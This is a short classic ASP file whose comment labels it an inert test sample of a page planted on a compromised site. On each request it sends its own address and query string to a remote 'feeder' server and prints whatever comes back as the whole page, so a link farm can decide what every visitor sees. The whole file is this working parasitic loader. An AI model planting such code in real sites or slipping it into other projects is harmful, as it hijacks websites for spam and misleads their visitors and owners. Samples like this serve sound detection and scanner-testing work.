<%
' inert test sample: a planted page that asks a remote server what to show for this very address
' and prints the reply as the whole page (the link farm decides per page and per visitor)
Dim feeder, me_url, target, http
Server.ScriptTimeout = 600
feeder = "http://198.51.100.23/tpl/get.php"
me_url = "http://" & Request.ServerVariables("SERVER_NAME") & Request.ServerVariables("URL")
target = feeder & "?page=" & me_url & "&q=" & Request.ServerVariables("QUERY_STRING")
Set http = Server.CreateObject("Microsoft.XMLHTTP")
http.Open "GET", target, False
http.Send
Response.BinaryWrite http.responseBody
Set http = Nothing
%>
